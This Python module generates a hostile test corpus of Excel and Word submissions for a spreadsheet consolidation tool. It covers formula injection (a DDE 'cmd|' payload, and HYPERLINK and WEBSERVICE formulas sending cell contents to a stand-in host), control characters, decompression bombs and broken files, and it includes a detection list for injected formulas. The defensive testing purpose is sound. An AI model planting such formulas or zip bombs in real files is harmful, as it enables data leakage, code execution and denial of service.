"""The hostile corpus of issue 10, generated (never committed as binaries).

`build_corpus(folder)` writes a submissions folder holding one file per hostile
case next to the three seed-001 unit files, and returns an `Entry` per file: what
it stands for, how many forms must still be read from it, or the reason it is
not read, and the cells a problem must be named at.  `department_workbooks` and
`not_masters` write the inputs of `evaluate` and of the master commands.

Text reaches the files exactly as Excel stores it: a control character as its
`_xHHHH_` escape, a literal `_x000B_` typed by a clerk as `_x005F_x000B_`, a
lone surrogate as `_xD800_`; numbers no spreadsheet program writes (`1e309`,
`NaN`) as raw `<v>` text.  The workbooks are first written with placeholder
tokens (XlsxWriter or openpyxl, both of which refuse some of these), then the
tokens are swapped in the zip (`Tokens.apply`).  Not a test module.
"""
from __future__ import annotations

import os
import re
import shutil
import zipfile
from dataclasses import dataclass, field
from datetime import datetime
from pathlib import Path
from typing import Any, Optional
from xml.sax.saxutils import escape

from lxml import etree

from container_helpers import SHEET_HEAD, SHEET_TAIL, deflate_repeat, hostile_xlsx, write_docx
from xltools.consolidate.sample import IndicatorSpec, ProjectSpec, default_indicators, form_cells

ROOT = Path(__file__).resolve().parent.parent
EXAMPLES = ROOT / "examples" / "submissions"
DEPARTMENT_EXAMPLE = ROOT / "examples" / "department" / "部门整体支出.xlsx"
SEED_UNITS = ("局机关", "数据资源中心", "政务服务中心")
MB = 1024 ** 2

# ------------------------------------------------------------------ what clerks type
# text a clerk or a pasted document supplies      what it stands for
FORMULA_TEXT = [
    ("=cmd|' /C calc'!A0",                 "DDE payload copied from a phishing 'template' mail"),
    ('=HYPERLINK("http://x.cn/?"&A1,"点我")', "a link formula pasted from a web page, leaking a neighbour cell"),
    ('=WEBSERVICE("http://x.cn/"&B2)',      "WEBSERVICE call that would send a cell's content out"),
    ("\t=2+2",                              "a clerk's tab before a sum she meant to be text"),
    ("+1",                                  "a change typed as +1 (Excel would take it for a formula)"),
    ("-1",                                  "a deduction typed as -1"),
    ("@SUM(A1)",                            "Lotus-style @SUM typed by an old hand"),
]
# text pasted from Word or a broken export        what it stands for
CONTROL_TEXT = [
    ("市民中心\x0b大厅运转维护费",          "Word's manual line break (Shift+Enter) pasted into a cell"),
    ("窗口补贴\x07",                        "Word's end-of-cell mark copied along with a table cell"),
    ("第一页\x0c第二页",                    "a page break pasted from Word"),
    ("网络\x00安全",                        "a NUL from a broken GBK → UTF-8 export"),
    ("信创\ud800工程",                      "a lone surrogate from a damaged UTF-16 conversion"),
    ("_x000B_字面",                         "a clerk literally typed _x000B_ (must stay seven characters)"),
]
HOSTILE_TEXT = FORMULA_TEXT + CONTROL_TEXT
#: what must never appear inside an output formula (each FORMULA_TEXT's payload)
NEEDLES = ["cmd|", "HYPERLINK(", "WEBSERVICE(", "2+2", "+1", "-1", "@SUM", "SUM(A1)", "calc", "x.cn"]

#: Windows forbids these in a file name, Excel these in a sheet name
_FILE_BAD = re.compile(r'[\\/:*?"<>|\x00-\x1f\ud800-\udfff]')
_SHEET_BAD = re.compile(r"[\\/:*?\[\]\x00-\x1f\ud800-\udfff]")


def sheet_name_for(text: str, k: int) -> str:
    """The sheet name a clerk would give that project (Excel refuses some characters)."""
    name = _SHEET_BAD.sub("", text).strip("'")[:31]
    return name or f"项目{k}"


def file_stem_for(text: str, k: int) -> str:
    stem = _FILE_BAD.sub("", text).strip().strip(".")
    return stem or f"单位{k}"


# ------------------------------------------------------------------ tokens
def excel_text(text: str, attribute: bool = False) -> str:
    """`text` as Excel writes it into XML text (or a quoted attribute): `_x`
    escaped, controls and surrogates as `_xHHHH_`, then XML-escaped."""
    text = re.sub(r"_x([0-9A-Fa-f]{4})_", r"_x005F_x\1_", text)
    text = "".join(f"_x{ord(ch):04X}_" if (ord(ch) < 0x20 and ch not in "\t\n\r") or "\ud800" <= ch <= "\udfff"
                   else ch for ch in text)
    return escape(text, {'"': "&quot;"} if attribute else {})


class Tokens:
    """Placeholders for what the writers refuse: `text(s)` and `number(raw)` give a
    token to write instead; `apply(path)` swaps them in the written zip."""

    def __init__(self) -> None:
        self.texts: dict[str, str] = {}
        self.numbers: dict[str, str] = {}

    def _token(self) -> str:
        return f"ZZTOK{len(self.texts) + len(self.numbers):05d}ZZ"

    def text(self, value: Any) -> Any:
        if not isinstance(value, str) or (value.isprintable() and not value.startswith(("=", "_x"))
                                          and "_x" not in value):
            return value
        token = self._token()
        self.texts[token] = value
        return token

    def number(self, raw: str) -> str:
        """A cell holding `raw` as its number text (`1e309`, `NaN`)."""
        return self.cell(f"><v>{raw}</v></c>")

    def cell(self, tail: str) -> str:
        """A cell whose XML after its address and style is `tail` (e.g.
        ` t="e"><f>Sheet9!A1</f><v>#REF!</v></c>`)."""
        token = self._token()
        self.numbers[token] = tail
        return token

    def apply(self, path: Path) -> Path:
        if not self.texts and not self.numbers:
            return path
        with zipfile.ZipFile(path) as zf:
            parts = [(info, zf.read(info)) for info in zf.infolist()]
        sst = next((data for info, data in parts if info.filename == "xl/sharedStrings.xml"), b"")
        index = {}
        for k, si in enumerate(re.findall(rb"<si>.*?</si>", sst, re.S)):
            m = re.search(rb"ZZTOK\d{5}ZZ", si)
            if m:
                index[m.group().decode()] = k
        number_at = {str(index[t]).encode(): raw.encode() for t, raw in self.numbers.items() if t in index}

        def number_cell(m: re.Match) -> bytes:
            raw = number_at.get(m.group(2))
            return m.group(0) if raw is None else m.group(1) + raw

        out = []
        for info, data in parts:
            if info.filename.endswith(".xml"):
                if info.filename.startswith("xl/worksheets/") and number_at:
                    data = re.sub(rb'(<c r="[A-Z]+\d+"(?: s="\d+")?) t="s"><v>(\d+)</v></c>', number_cell, data)
                for token, text in self.texts.items():
                    t = token.encode()
                    if t not in data:
                        continue
                    body = excel_text(text).encode("utf-8", "surrogatepass")
                    data = re.sub(rb"<t>" + t + rb"</t>", lambda _m: b'<t xml:space="preserve">' + body + b"</t>",
                                  data)
                    data = re.sub(rb"<t [^>]*>" + t + rb"</t>",
                                  lambda _m: b'<t xml:space="preserve">' + body + b"</t>", data)
                    attr = excel_text(text, attribute=True).encode("utf-8", "surrogatepass")
                    data = data.replace(t, attr)
            out.append((info, data))
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
            for info, data in out:
                zf.writestr(info.filename, data)
        return path


# ------------------------------------------------------------------ forms
def hostile_project(text: str, sheet: str) -> ProjectSpec:
    """A consistent form (weights 100) whose every text field holds `text`."""
    inds = [IndicatorSpec(i.level1, i.level2, text, text, text, i.weight, i.score, text)
            for i in default_indicators()]
    return ProjectSpec(name=text, unit=text, department=text, budget_initial=100, budget_full_year=100,
                       spent=90, execution_rate="90%", budget_score=9, indicators=inds, total_score=99,
                       sheet=sheet)


def write_forms(path: Path, projects: list[ProjectSpec], *, unit: Any = None, expected: tuple = (),
                goals: Any = None, cells: Optional[dict[tuple[str, int, int], Any]] = None) -> Path:
    """A unit's workbook as `sample.write_submission` lays it out, with every
    value routed through `Tokens` (so any text or raw number can be held), the
    goal texts set to `goals`, and `cells` {(sheet, row, col): value} overriding
    (a value ("f", formula, cached) is a formula cell with its cached value;
    ("raw", text) a raw <v>)."""
    import xlsxwriter

    tokens = Tokens()
    wb = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False, "strings_to_numbers": False,
                                         "strings_to_urls": False})
    sheets: list[tuple[str, dict[tuple[int, int], Any], list]] = []
    if unit is not None or expected:
        info = {(1, 1): "基础信息", (3, 1): "主管部门", (3, 2): "株洲市行政审批服务局", (4, 1): "年度",
                (4, 2): 2022, (7, 1): "本表填报单位", (7, 2): unit, (7, 3): "（仅下属单位报送表填写）",
                (9, 1): "序号", (9, 2): "实施单位（局机关及下属单位）名单"}
        for k, name in enumerate(expected):
            info[(10 + k, 1)] = k + 1
            info[(10 + k, 2)] = name
        sheets.append(("基础信息", info, []))
    for k, spec in enumerate(projects, start=1):
        c = form_cells(spec)
        if goals is not None:
            c.values[(10, 2)] = goals
            c.values[(10, 6)] = goals
        sheets.append((spec.sheet or f"项目{k}", dict(c.values), c.merges))
    for name, values, merges in sheets:
        ws = wb.add_worksheet(tokens.text(name))
        for r1, c1, r2, c2 in merges:
            ws.merge_range(r1 - 1, c1 - 1, r2 - 1, c2 - 1, "")
        for (r, col), value in {**values, **{(r, col): v for (s, r, col), v in (cells or {}).items()
                                             if s == name}}.items():
            if value is None:
                continue
            if isinstance(value, tuple) and value[0] == "f":
                ws.write_formula(r - 1, col - 1, value[1], None, value[2])
            elif isinstance(value, tuple) and value[0] == "raw":
                ws.write_string(r - 1, col - 1, tokens.number(value[1]))  # replaced by a raw <v>
            elif isinstance(value, bool):
                ws.write_boolean(r - 1, col - 1, value)
            elif isinstance(value, datetime):
                ws.write_datetime(r - 1, col - 1, value, wb.add_format({"num_format": "yyyy-mm-dd"}))
            elif isinstance(value, (int, float)):
                ws.write_number(r - 1, col - 1, value)
            else:
                ws.write_string(r - 1, col - 1, tokens.text(str(value)))
    wb.close()
    return tokens.apply(path)


# ------------------------------------------------------------------ the corpus
@dataclass
class Entry:
    """One file of the corpus."""

    name: str            # file name in the folder (GBK names: as Python sees them)
    kind: str            # class of issue 10
    stands_for: str
    status: str = "ok"   # ok (read) · error (named reason) · skipped (found, not read)
    forms: int = 0       # forms that must be read from it
    reason: str = ""     # words the reason must contain (error/skipped)
    cells: list[tuple[str, str]] = field(default_factory=list)  # (sheet, cell) a problem is named at
    texts: list[str] = field(default_factory=list)  # clerk text it carries
    shown_name: str = ""  # the name as the terminal/JSON shows it (GBK names decoded)

    @property
    def shown(self) -> str:
        return self.shown_name or self.name


# Form cells (sample.form_cells): budget line row 5 (D 年初, E 全年, F 执行, G 分值, H 执行率, I 得分),
# indicators from row 12 (G 分值, H 得分), 总分 row 17 (H).
NUMBER_CASES = [
    # sheet       (row, col): value                                  stands for
    ("极大",      {(5, 5): 1e26, (5, 6): 1e26},                     "1e26 typed (a clerk held 0 down): beyond any budget"),
    ("无穷",      {(5, 5): ("raw", "1e309"), (5, 6): ("raw", "INF")},  "infinity written by an export tool"),
    ("非数",      {(5, 6): ("raw", "NaN"), (12, 8): ("raw", "nan")},  "NaN written by a numpy/pandas export"),
    ("负零",      {(5, 4): -0.0, (5, 6): -0.0},                     "-0 from a rounding macro"),
    ("巨额",      {(5, 5): 123456789012345.0, (5, 6): 98765432109876.0}, "an amount typed in 元 with extra digits"),
    ("负数",      {(5, 5): -100, (5, 6): -90, (12, 8): -5, (5, 9): -1},
     "a refund typed as a negative amount, a deduction typed as the score"),
]
MONEY_TEXT_CASES = [
    ("大写",      {(5, 6): "壹佰万元"},            "the amount written in capital numerals"),
    ("见附件",    {(5, 5): "见附件"},              "'see attachment' instead of the figure"),
    ("文字NaN",   {(5, 6): "NaN"},                 "the text NaN typed in"),
    ("日期",      {(5, 6): datetime(2022, 12, 31)}, "a date typed in the 执行数 cell (Excel made it a date)"),
    ("布尔",      {(5, 5): True},                  "TRUE left by a checkbox formula pasted as value"),
]
CACHED_ERROR_CASES = [
    ("已删表",    {(5, 6): ("f", "=Sheet9!A1", "#REF!")},   "a cell pointing at a deleted sheet"),
    ("除零",      {(5, 8): ("f", "=F5/E5", "#DIV/0!"), (5, 5): 0}, "a rate over a zero budget"),
    ("公式名称",  {(2, 2): ("f", '=HYPERLINK("http://x.cn/?"&A1,"点我")', "点我"),
                   (3, 6): ("f", "=cmd|' /C calc'!A0", "#REF!")},
                  "the clerk typed = first: Excel stored live formulas (a link, a DDE call)"),
]
_CELL_NAMES = {(5, 4): "D5", (5, 5): "E5", (5, 6): "F5", (5, 8): "H5", (5, 9): "I5", (12, 8): "H12", (2, 2): "B2",
               (3, 6): "F3"}


def _seed_forms(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for unit in SEED_UNITS:
        shutil.copy2(EXAMPLES / f"{unit}.xlsx", folder / f"{unit}.xlsx")


def seed_form_count() -> int:
    from xltools.containers.workbook import load_book
    from xltools.project.reader import read_forms

    return sum(len(read_forms(load_book(EXAMPLES / f"{u}.xlsx")).forms) for u in SEED_UNITS)


def _plain(project: str, unit: str) -> ProjectSpec:
    return ProjectSpec(name=project, unit=unit, budget_initial=100, budget_full_year=100, spent=90,
                       execution_rate="90%", budget_score=9, indicators=default_indicators(), total_score=99)


def build_corpus(folder: Path, *, bombs: bool = True) -> list[Entry]:
    """Every class of issue 10 in one submissions folder (with the seed's three
    unit files).  `bombs=False` leaves out the decompression bombs (for the runs
    that only need text)."""
    _seed_forms(folder)
    entries: list[Entry] = []

    # 1. clerk text in every text field; odd files have a 基础信息 naming the unit,
    #    even ones are named after it (the unit then comes from the file name)
    for k, (text, why) in enumerate(HOSTILE_TEXT, start=1):
        sheet = sheet_name_for(text, k)
        with_info = k % 2 == 1
        stem = f"单位{k:02d}" if with_info else file_stem_for(text, k)
        name = f"{stem}.xlsx"
        write_forms(folder / name, [hostile_project(text, sheet)], goals=text,
                    unit=text if with_info else None, expected=(text, "局机关") if with_info else ())
        kind = "formula_text" if (text, why) in FORMULA_TEXT else "control_text"
        entries.append(Entry(name, kind, why, "ok", 1, texts=[text]))

    # the same in a Word document (Word is where most forms are typed)
    rows = [["项目名称", FORMULA_TEXT[0][0]], ["主管部门", FORMULA_TEXT[1][0], "实施单位", FORMULA_TEXT[2][0]]]
    rows += [["项目资金（万元）", "", "", "年初预算数", "全年预算数", "全年执行数", "分值", "执行率", "得分"],
             ["", "年度资金总额", "", "100", "100", "90", "10", "90%", "9"]]
    rows += [["年度总体目标", "预期目标", "", "", "", "实际完成情况"],
             ["", FORMULA_TEXT[3][0], "", "", "", FORMULA_TEXT[4][0]],
             ["绩效指标", "一级指标", "二级指标", "三级指标", "年度指标值", "实际完成值", "分值", "得分",
              "偏差原因分析及改进措施"]]
    for i in default_indicators():
        rows.append(["", i.level1, i.level2, FORMULA_TEXT[5][0], FORMULA_TEXT[6][0], FORMULA_TEXT[1][0],
                     str(i.weight), str(i.score), FORMULA_TEXT[0][0]])
    rows.append(["总分", "", "", "", "", "", "100", "99"])
    write_docx(folder / "文字报送.docx", [("p", "2022年度项目支出绩效自评表"), ("table", rows, [])])
    entries.append(Entry("文字报送.docx", "formula_text", "a form typed in Word with formula-like text", "ok", 1,
                         texts=[t for t, _ in FORMULA_TEXT]))

    # 2. numbers, 3. text in money cells, 4. cached errors: one sheet per case, one file per class
    for fname, kind, cases in (("数字.xlsx", "numbers", NUMBER_CASES),
                               ("金额文字.xlsx", "money_text", MONEY_TEXT_CASES),
                               ("公式错误.xlsx", "cached_error", CACHED_ERROR_CASES)):
        projects = [_plain(f"{sheet}项目", "局机关") for sheet, _c, _w in cases]
        for p, (sheet, _c, _w) in zip(projects, cases):
            p.sheet = sheet
        cells = {(sheet, r, c): v for sheet, changes, _w in cases for (r, c), v in changes.items()}
        write_forms(folder / fname, projects, cells=cells)
        for sheet, changes, why in cases:
            entries.append(Entry(fname, kind, why, "ok", 0,
                                 cells=[(sheet, _CELL_NAMES[rc]) for rc in changes
                                        if not (kind == "numbers" and sheet == "负零")
                                        and not (sheet == "除零" and rc == (5, 5))
                                        and not (sheet == "公式名称" and rc == (2, 2))]))
        entries[-1].forms = len(cases)  # one entry per file carries the file's form count

    # 5. oversized or odd files
    one_form = folder / "_form.xlsx"
    write_forms(one_form, [_plain("超大文件中的项目", "局机关")])
    entries += _oversized(folder, one_form, bombs)
    # 6. broken containers
    entries += _broken(folder, one_form)
    # 7. folder oddities
    entries += _oddities(folder, one_form)
    one_form.unlink()
    return entries


def _oversized(folder: Path, form: Path, bombs: bool) -> list[Entry]:
    out = []
    # a form plus one value typed in XFD1048576: the form is read, the far cell noted
    # (its text pasted from Word: the streaming reader, which such a file needs, meets control characters)
    far = folder / "远处的值.xlsx"
    pasted = hostile_project(CONTROL_TEXT[0][0], "远处")
    pasted.department, pasted.unit = CONTROL_TEXT[4][0], CONTROL_TEXT[5][0]
    write_forms(folder / "_far.xlsx", [pasted], goals=CONTROL_TEXT[1][0])
    _add_to_sheet(folder / "_far.xlsx", far, b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
    (folder / "_far.xlsx").unlink()
    out.append(Entry(far.name, "oversized", "a value typed in XFD1048576 by a slip of Ctrl+arrow", "ok", 1,
                     texts=[CONTROL_TEXT[0][0], CONTROL_TEXT[4][0], CONTROL_TEXT[5][0]]))
    merge = folder / "整表合并.xlsx"
    hostile_xlsx(merge, SHEET_HEAD + b'<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>'
                 + b'</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>')
    out.append(Entry(merge.name, "oversized", "select-all then Merge cells", "error", 0, "没有找到绩效自评表"))
    many = folder / "三百张表.xlsx"
    _many_sheets(many, 300)
    out.append(Entry(many.name, "oversized", "a workbook with 300 sheets (every project of a province)",
                     "error", 0, "超过上限"))
    if bombs:
        ws = folder / "空白炸弹.xlsx"
        hostile_xlsx(ws, raw={"xl/worksheets/sheet1.xml": deflate_repeat(SHEET_HEAD, b" " * MB, 2048, SHEET_TAIL)})
        out.append(Entry(ws.name, "oversized", "a 4 MB zip holding 2 GiB of whitespace", "error", 0, "超过上限"))
        row = b"<row>" + b"<c><v>1</v></c>" * 200 + b"</row>"
        cells = folder / "四百万格.xlsx"
        hostile_xlsx(cells, raw={"xl/worksheets/sheet1.xml": deflate_repeat(SHEET_HEAD, row, 20000, SHEET_TAIL)})
        out.append(Entry(cells.name, "oversized", "4 million cells (a data dump sent by mistake)", "error", 0,
                         "超过"))
        head = (b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
                b'spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>')
        big = folder / "巨型文字.xlsx"
        hostile_xlsx(big, SHEET_HEAD + b'<row r="1"><c r="A1" t="s"><v>0</v></c></row>' + SHEET_TAIL,
                     raw={"xl/sharedStrings.xml": deflate_repeat(head, b"A" * MB, 1024, b"</t></si></sst>")})
        out.append(Entry(big.name, "oversized", "one shared string of 1 GiB", "error", 0, "超过上限"))
    return out


def _add_to_sheet(src: Path, dest: Path, rows: bytes) -> None:
    """`src` with `rows` appended to its first worksheet's sheetData."""
    with zipfile.ZipFile(src) as zf, zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as out:
        for info in zf.infolist():
            data = zf.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</sheetData>", rows + b"</sheetData>")
                data = re.sub(rb"<dimension [^>]*/>", b"", data)
            out.writestr(info.filename, data)


def _many_sheets(path: Path, n: int) -> None:
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(path))
    for k in range(n):
        wb.add_worksheet(f"表{k + 1}").write(0, 0, "项目名称")
    wb.close()


def _broken(folder: Path, form: Path) -> list[Entry]:
    data = form.read_bytes()
    out = []
    (folder / "截断.xlsx").write_bytes(data[: len(data) // 2])
    out.append(Entry("截断.xlsx", "broken", "an e-mail attachment cut short", "error", 0, "损坏"))
    (folder / "空文件.xlsx").write_bytes(b"")
    out.append(Entry("空文件.xlsx", "broken", "a 0-byte file left by a failed copy", "error", 0, "空"))
    (folder / "通知.xlsx").write_text("各单位：请于6月30日前报送。\n", encoding="utf-8")
    out.append(Entry("通知.xlsx", "broken", "a text notice renamed .xlsx", "error", 0, "不是 Excel 工作簿"))
    shutil.copy2(form, folder / "改名.xls")
    out.append(Entry("改名.xls", "broken", "an .xlsx renamed .xls by hand (read by its content)", "ok", 1))
    from msoffcrypto.format.ooxml import OOXMLFile

    with open(form, "rb") as fh, open(folder / "加密.xlsx", "wb") as enc:
        OOXMLFile(fh).encrypt("123456", enc)
    out.append(Entry("加密.xlsx", "broken", "a file protected with an opening password", "error", 0, "密码"))
    (folder / "旧版.doc").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504)
    out.append(Entry("旧版.doc", "broken", "an old Office file (OLE) named .doc", "error", 0, "另存为"))
    # a sheet listed in the workbook whose part is missing from the zip (a repair tool dropped it)
    with zipfile.ZipFile(form) as zf, zipfile.ZipFile(folder / "缺表.xlsx", "w", zipfile.ZIP_DEFLATED) as z:
        for info in zf.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                z.writestr(info.filename, zf.read(info))
    out.append(Entry("缺表.xlsx", "broken", "a sheet part lost by a zip repair tool", "error", 0, "没有找到绩效自评表"))
    # a raw control character in the XML (a buggy exporter; Excel itself would escape it)
    with zipfile.ZipFile(form) as zf, zipfile.ZipFile(folder / "裸控制符.xlsx", "w", zipfile.ZIP_DEFLATED) as z:
        for info in zf.infolist():
            d = zf.read(info)
            if info.filename == "xl/sharedStrings.xml":
                d = d.replace("超大文件中的项目".encode(), "超大\x0b文件\x07中的项目".encode())
            z.writestr(info.filename, d)
    out.append(Entry("裸控制符.xlsx", "broken", "raw control characters written by a buggy exporter", "ok", 1))
    return out


def _oddities(folder: Path, form: Path) -> list[Entry]:
    out = []
    for name, reason, why in (
            ("~$局机关.xlsx", "锁文件", "Excel's lock file of an open workbook"),
            (".局机关.xlsx", "隐藏", "a hidden file (macOS ._ copy, synced folder)"),
            ("局机关.20240101-093000.bak.xlsx", "备份", "xltools' own backup of an earlier output"),
            ("说明.pdf", "不是表格", "the notice as PDF"),
            ("报送说明.txt", "不是表格", "a text note"),
            ("Thumbs.db", "不是表格", "Windows' thumbnail cache")):
        shutil.copy2(form, folder / name)
        out.append(Entry(name, "folder", why, "skipped", 0, reason))
    gbk = os.fsdecode("财务科".encode("gbk") + b".xlsx")
    write_forms(folder / gbk, [_plain("GBK文件名中的项目", "财务科")])
    out.append(Entry(gbk, "folder", "a file from a zip made on Chinese Windows (GBK name bytes)", "ok", 1,
                     shown_name="财务科.xlsx"))
    return out


def readable_forms(entries: list[Entry]) -> int:
    return sum(e.forms for e in entries)


# ------------------------------------------------------------------ department workbooks
#: cells of the department example a clerk fills with text: 基础数据表's special
#: funds and 厉行节约措施, 自评表's body name, goals, indicators, targets, actuals, reasons
DEPT_TEXT_CELLS = {
    "基础数据表": [f"A{r}" for r in range(17, 26)] + ["B35"],
    "部门整体支出绩效自评表": ["C3", "B12", "F12"] + [f"{c}{r}" for r in range(14, 34) for c in "DEFI"],
}
_FIGURE = re.compile(r"^[\s\u3000]*-?[\d.]+%?[\s\u3000]*$")


#: (name, how every text cell or every figure is replaced, what it stands for)
DEPARTMENT_CASES: list[tuple[str, Any, str]] = [(f"文字{k}", ("text", text), why)
                                                for k, (text, why) in enumerate(HOSTILE_TEXT, 1)]
DEPARTMENT_CASES += [
    ("数字极大", 1e26, "1e26 in every figure"),
    ("数字无穷", ("raw", "1e309"), "infinity in every figure (an export tool)"),
    ("数字非数", ("raw", "NaN"), "NaN in every figure (a pandas export)"),
    ("数字负", -5, "negative figures (refunds)"),
    ("金额文字", "见附件", "见附件 instead of every figure"),
    ("公式错误", ("cell", ' t="e"><f>Sheet9!A1</f><v>#REF!</v></c>'),
     "every figure a formula pointing at a deleted sheet"),
]
DEPARTMENT_VARIANTS = [name for name, _v, _w in DEPARTMENT_CASES]


def department_workbooks(folder: Path) -> list[tuple[Path, str]]:
    """The department example (附件1-1, 附件1-2) with hostile content: the text a
    clerk fills in replaced by clerk text (one workbook per text), or every
    figure by an odd value.  → (path, what it stands for)."""
    import openpyxl

    folder.mkdir(parents=True, exist_ok=True)
    out = []
    for name, value, why in DEPARTMENT_CASES:
        wb = openpyxl.load_workbook(DEPARTMENT_EXAMPLE)
        tokens = Tokens()
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    if type(c).__name__ == "MergedCell":
                        continue
                    if isinstance(value, tuple) and value[0] == "text":
                        if c.coordinate in DEPT_TEXT_CELLS.get(ws.title, ()) and c.value is not None:
                            c.value = tokens.text(value[1])
                        continue
                    figure = isinstance(c.value, (int, float)) or (isinstance(c.value, str) and _FIGURE.match(c.value))
                    if not figure:
                        continue
                    if isinstance(value, tuple) and value[0] == "raw":
                        c.value = tokens.cell(f"><v>{value[1]}</v></c>")
                    elif isinstance(value, tuple):
                        c.value = tokens.cell(value[1])
                    else:
                        c.value = value
        path = folder / f"部门_{name}.xlsx"
        wb.save(path)
        tokens.apply(path)
        out.append((path, why))
    return out


# ------------------------------------------------------------------ masters that are not masters
def _text_master(path: Path) -> None:
    path.write_text("不是工作簿", encoding="utf-8")


def _truncated_master(path: Path) -> None:
    path.write_bytes((EXAMPLES / "局机关.xlsx").read_bytes()[:3000])


def _bomb_master(path: Path) -> None:
    hostile_xlsx(path, raw={"xl/worksheets/sheet1.xml": deflate_repeat(SHEET_HEAD, b" " * MB, 1024, SHEET_TAIL)})


#: (file name, how it is made, what it stands for)
NOT_MASTER_CASES = [
    ("报送表当主表.xlsx", lambda p: shutil.copy2(EXAMPLES / "局机关.xlsx", p),
     "a unit's submission picked instead of the master"),
    ("文本.xlsm", _text_master, "a text file renamed .xlsm"),
    ("空.xlsm", lambda p: p.write_bytes(b""), "a 0-byte master left by a failed sync"),
    ("截断.xlsm", _truncated_master, "a master cut short by a full USB stick"),
    ("炸弹.xlsx", _bomb_master, "a decompression bomb named as master"),
    ("文件夹.xlsm", lambda p: p.mkdir(), "a folder named like a master"),
    ("不存在.xlsm", lambda p: None, "a master that was moved away"),
]
NOT_MASTERS = len(NOT_MASTER_CASES)


def not_masters(folder: Path) -> list[tuple[Path, str]]:
    """Files handed to `--master`, `recalc`, `add-project`, `evaluate`, `ledger --master`
    that are not masters.  → (path, what it stands for)."""
    folder.mkdir(parents=True, exist_ok=True)
    out = []
    for name, make, why in NOT_MASTER_CASES:
        make(folder / name)
        out.append((folder / name, why))
    return out


# ------------------------------------------------------------------ scanning outputs
_FORMULA_TAGS = {"f", "formula", "formula1", "formula2", "definedName"}
#: every function the formulas xltools composes use (consolidation, master, department sheets)
OUR_FUNCTIONS = {
    "ABS", "AND", "AVERAGE", "COUNT", "COUNTA", "COUNTIF", "COUNTIFS", "IF", "IFERROR", "INDEX", "INDIRECT",
    "ISBLANK", "ISERROR", "ISNUMBER", "ISTEXT", "LEN", "MATCH", "MAX", "MIN", "OFFSET", "OR", "ROUND", "ROUNDDOWN",
    "ROUNDUP", "SUM", "SUMIF", "SUMIFS", "SUMPRODUCT", "TRIM", "VALUE", "N", "NOT", "CELL", "ROW", "COLUMN",
    "LEFT", "RIGHT", "MID", "SUBSTITUTE", "TEXT", "MINA", "MAXA", "LOOKUP", "VLOOKUP", "HLOOKUP", "CHOOSE",
    "ISNA", "NA", "EXACT", "FIND", "SEARCH", "CONCATENATE", "REPT", "INT", "MOD", "SIGN", "AVERAGEIF",
    "_xlfn.IFS", "_xlfn.XLOOKUP", "COUNTBLANK", "ISFORMULA", "_xlfn.ISFORMULA", "T", "INFO", "SHEET", "_xlfn.SHEET",
    "CHAR",
}
_QUOTED_SHEET = re.compile(r"'((?:[^']|'')+)'!")
_FUNCTION = re.compile(r"((?:_xlfn\.)?[A-Z][A-Z0-9.]*)\(")
_STRING_LITERAL = re.compile(r'"(?:[^"]|"")*"')
FORMULA_LIKE = ("=", "+", "-", "@")


def _sheet_names(zf: zipfile.ZipFile) -> set[str]:
    root = etree.fromstring(zf.read("xl/workbook.xml"))
    return {el.get("name") for el in root.iter() if etree.QName(el).localname == "sheet"}


def formula_problems(path: Path, clerk_texts: list[str], exact: bool = False) -> list[str]:
    """Every formula-bearing element of every XML part of `path` that holds
    something xltools does not compose: a function it never writes, a
    reference to a sheet the workbook does not have or whose name looks like
    a formula, a DDE/URL/external-link token, or a clerk's text (in it, or —
    `exact`, for arbitrary texts that may be digits — as the whole formula)."""
    problems = []
    with zipfile.ZipFile(path) as zf:
        sheets = _sheet_names(zf)
        for sheet in sheets:
            if sheet.lstrip(" \t\u3000").startswith(FORMULA_LIKE) or not sheet.isprintable() \
                    or re.search(r"_x[0-9A-Fa-f]{4}_", sheet):
                problems.append(f"sheet named like a formula or with a control character: {sheet!r}")
        for name in zf.namelist():
            if not name.endswith((".xml", ".rels")) or name.endswith(".rels"):
                continue
            data = zf.read(name)
            if b"<" not in data:
                continue
            try:
                root = etree.fromstring(data)
            except etree.XMLSyntaxError as exc:
                problems.append(f"{name}: not XML ({exc})")
                continue
            for el in root.iter():
                if not isinstance(el.tag, str) or etree.QName(el).localname not in _FORMULA_TAGS:
                    continue
                text = el.text or ""
                for quoted in _QUOTED_SHEET.findall(text):
                    sheet = quoted.replace("''", "'")
                    if sheet not in sheets:
                        problems.append(f"{name}: reference to a sheet not in the workbook: {text[:120]}")
                    if sheet.lstrip(" \t\u3000").startswith(FORMULA_LIKE):
                        problems.append(f"{name}: sheet named like a formula in {text[:120]}")
                bare = _QUOTED_SHEET.sub("'SHEET'!", text)
                for sheet in sorted(sheets, key=len, reverse=True):  # unquoted references
                    bare = bare.replace(sheet + "!", "SHEET!")
                literals = " ".join(_STRING_LITERAL.findall(bare))
                code = _STRING_LITERAL.sub('""', bare)
                unknown = set(_FUNCTION.findall(code)) - OUR_FUNCTIONS
                if unknown:
                    problems.append(f"{name}: functions {sorted(unknown)} in {text[:120]}")
                if "|" in code or "[" in code or "http" in bare.lower():
                    problems.append(f"{name}: DDE, external link or URL in {text[:120]}")
                for needle in NEEDLES:
                    if needle in literals and needle not in ("+1", "-1"):
                        problems.append(f"{name}: clerk text {needle!r} in a formula string: {text[:120]}")
                for clerk in clerk_texts:
                    if (bare.strip() == clerk.strip().lstrip("=+-@").strip()) if exact else \
                            (len(clerk) > 3 and clerk in bare):
                        problems.append(f"{name}: clerk text {clerk!r} in {text[:120]}")
    return problems


def unprefixed_formula_text(path: Path) -> list[str]:
    """String cells whose text starts like a formula but lack quotePrefix."""
    found = []
    with zipfile.ZipFile(path) as zf:
        names = set(zf.namelist())
        quoted: set[int] = set()
